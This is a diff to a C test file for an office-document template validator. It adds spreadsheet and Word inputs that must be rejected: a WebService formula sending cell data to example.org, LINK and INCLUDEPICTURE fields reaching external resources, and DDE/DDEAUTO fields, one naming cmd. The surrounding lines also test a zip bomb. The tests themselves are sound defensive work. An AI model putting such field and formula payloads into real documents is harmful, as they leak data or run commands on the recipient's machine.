@@ -370,6 +370,7 @@ static void what_sheets_may_not_hold(void **state)
 		{"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{{if x}}</t></is></c></row>", "{{if"},
 		{"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{{x</t></is></c></row>", "}}"},
 		{"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{{people.no}}</t></is></c></row><row r=\"2\"><c r=\"A2\"><f>SUM(A1:A1)</f></c></row>", "สูตร"},
+		{"<row r=\"1\"><c r=\"A1\"><f>_xlfn.WebService(\"http://example.org/\"&amp;A2)</f></c></row>", "ภายนอก"},
 		{"<row r=\"3\"/><row r=\"2\"/>", "เสียหาย"},
 		{"<row r=\"4294967297\"/>", "เสียหาย"},
 	};
@@ -430,6 +431,9 @@ static void what_is_refused(void **state)
 		{docx_with(empty, "Word/Document.xml", empty), "เสียหาย"},
 		{docx("<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText> inclu</w:instrText></w:r><w:r><w:instrText>deTEXT \"\\\\h\\x\" </w:instrText></w:r></w:p>"), "ภายนอก"},
 		{docx("<w:p><w:fldSimple w:instr=\" DDEAUTO cmd x\"/></w:p>"), "ภายนอก"},
+		{docx("<w:p><w:fldSimple w:instr=\"&quot;LINK&quot;&#9;Word.Document x\"/></w:p>"), "ภายนอก"},
+		{docx_with(empty, "word/endnotes.xml", "<w:endnotes " W "><w:p><w:r><w:instrText>INCLUDEPICTURE \"http://example.org/a\"</w:instrText></w:r></w:p></w:endnotes>"), "ภายนอก"},
+		{docx_with(empty, "other/Main2.XML", "<w:document " W "><w:fldSimple w:instr=\"DDE x y\"/></w:document>"), "ภายนอก"},
 		{bomb(), "ใหญ่"},
 		{lying(), "เสียหาย"},
 		{docx("<w:p><w:r><w:t>{{if x}} ข้อความ</w:t></w:r></w:p><w:p><w:r><w:t>{{end}}</w:t></w:r></w:p>"), "{{end}}"},
